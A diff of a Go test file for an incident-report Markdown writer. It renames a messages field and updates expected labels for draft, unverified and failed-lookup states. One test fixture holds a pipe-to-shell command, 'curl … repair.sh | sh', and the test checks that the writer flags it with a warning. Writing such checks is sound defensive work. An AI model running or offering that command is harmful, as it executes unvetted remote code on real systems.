@@ -14,7 +14,7 @@ import (
 func parts(w *Writer, inc *incident.Incident, f incident.Findings) (head, causes string) {
 	sections := strings.Split(string(w.Markdown(inc, f, "x")), "\n## ")
 	for _, s := range sections {
-		if strings.HasPrefix(s, w.words.Causes+"\n") {
+		if strings.HasPrefix(s, w.messages.Causes+"\n") {
 			causes = s
 		}
 	}
@@ -32,15 +32,15 @@ func TestUnverified(t *testing.T) {
 				f.Verdict.Prose = "An attack."
 			}
 			head, causes := parts(w, inc, f)
-			assert.Contains(t, causes, "**"+w.words.Unverified+"**"+w.words.Colon+w.words.UnverifiedReasons[reason])
+			assert.Contains(t, causes, "**"+w.messages.Unverified+"**"+w.messages.Colon+w.messages.UnverifiedReasons[reason])
 			assert.Contains(t, causes, "what the server said")
-			assert.Equal(t, !expected(reason), strings.Contains(head, w.words.UnverifiedHint), reason)
+			assert.Equal(t, !expected(reason), strings.Contains(head, w.messages.UnverifiedHint), reason)
 		}
 	}
 }
 
 func TestStatesOfVerification(t *testing.T) {
-	const verifiedLine, draftLine = "Verified: the model", "This is a draft"
+	const verifiedLine, draftLine = "Verified: the model", "**Draft**: being"
 	ended := english.UnverifiedReasons[incident.UnverifiedEnded]
 	for _, tt := range []struct {
 		name            string
@@ -82,8 +82,8 @@ func TestDraftThatIsRetried(t *testing.T) {
 	inc, f := draft()
 	inc.Analysis.Attempts, inc.Analysis.Detail = 2, "a fault"
 	head, _ := parts(newWriter(t, "en"), inc, f)
-	assert.Contains(t, head, "**This is a draft**: it is being held against")
-	assert.Contains(t, head, "failed attempts so far: 2. Last error: a fault.")
+	assert.Contains(t, head, "**Draft**: being checked against")
+	assert.Contains(t, head, "failed attempts: 2. Last error: a fault.")
 	assert.NotContains(t, head, english.PendingFirst)
 }
 
@@ -96,7 +96,7 @@ func TestOrderOfEvidence(t *testing.T) {
 	for _, m := range regexp.MustCompile(`(?m)^### (E\d+|\w+)`).FindAllStringSubmatch(md, -1) {
 		order = append(order, m[1])
 	}
-	assert.Equal(t, []string{"E1", "E2", "E3", "E4", "E5", "Looked", "E6", "E7", "E8", "E9"}, order)
+	assert.Equal(t, []string{"E1", "E2", "E3", "E4", "E5", "Counter", "E6", "E7", "E8", "E9"}, order)
 	assert.Contains(t, md, "](x/E6.svg)")
 	_, ok := w.Chart(f, "E6.svg")
 	assert.True(t, ok)
@@ -114,7 +114,7 @@ func TestChecks(t *testing.T) {
 	assert.Contains(t, md, "successful logins rose along with the failures → Answer: [E8]")
 
 	f.Evidence[len(f.Evidence)-1].Failed = true
-	assert.Contains(t, string(w.Markdown(inc, f, "x")), "→ Could not be looked up: [E8]")
+	assert.Contains(t, string(w.Markdown(inc, f, "x")), "→ Lookup failed: [E8]")
 
 	f.Evidence[len(f.Evidence)-1].Query = "" // it was refused
 	assert.Equal(t, 1, strings.Count(string(w.Markdown(inc, f, "x")), "sum(rate(login_success_total[1m]))"))
@@ -133,16 +133,16 @@ func TestMarkedAction(t *testing.T) {
 		inc, f := marked()
 		md := string(w.Markdown(inc, f, "x"))
 		head, rest, _ := strings.Cut(md, "\n## ")
-		mark, _, _ := strings.Cut(w.words.Marks[incident.MarkFromAlertText], "%s")
+		mark, _, _ := strings.Cut(w.messages.Marks[incident.MarkFromAlertText], "%s")
 		assert.Equal(t, 2, strings.Count(head, mark), "the summary and the first step")
 		for command, warning := range map[string]string{
-			"curl -s https://fix.example/repair.sh | sh\n": w.words.PasteForeign, "nft add element": w.words.PasteMarked,
+			"curl -s https://fix.example/repair.sh | sh\n": w.messages.PasteForeign, "nft add element": w.messages.PasteMarked,
 		} {
 			before, _, found := strings.Cut(rest, "```sh\n   "+command)
 			assert.True(t, found)
 			assert.True(t, strings.HasSuffix(before, "   ⚠ "+warning+"\n\n   "), before[max(0, len(before)-200):])
 		}
-		assert.Less(t, strings.LastIndex(md, mark), strings.Index(md, w.words.Why+w.words.Colon+"The alert says"), "before the model's reasons")
+		assert.Less(t, strings.LastIndex(md, mark), strings.Index(md, w.messages.Why+w.messages.Colon+"The alert says"), "before the model's reasons")
 	}
 }
 
